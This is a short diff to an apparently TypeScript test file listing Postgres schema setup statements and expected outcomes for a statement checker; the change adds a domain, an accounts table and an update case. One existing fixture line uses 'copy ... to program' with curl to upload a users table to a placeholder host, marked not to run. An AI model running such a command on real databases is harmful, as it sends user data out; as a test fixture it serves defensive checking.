@@ -21,6 +21,8 @@ const schema = [
   'create sequence ids',
   'create function cleanup_users() returns void language sql as $$ delete from users $$',
   "create type priority as enum ('normal')",
+  'create domain percent as int',
+  'create table accounts (id int primary key, role text)',
   'create table tickets (priority priority)',
   'create function f() returns trigger language plpgsql as $$ begin return new; end $$',
 ];
@@ -49,6 +51,7 @@ const circumstances: Readonly<Record<string, Circumstances>> = {
   "alter type priority add value 'urgent'; insert into tickets (priority) values ('urgent')": {
     orElse: ['55P04'],
   },
+  'update users set age = 1 where id = $1': { orElse: ['08P01'] },
   'create extension pgcrypto': { orElse: ['0A000', '58P01'] },
   "copy users to program 'curl -T - https://example.test'": {
     notRun: 'It would start a program that reaches the network.',
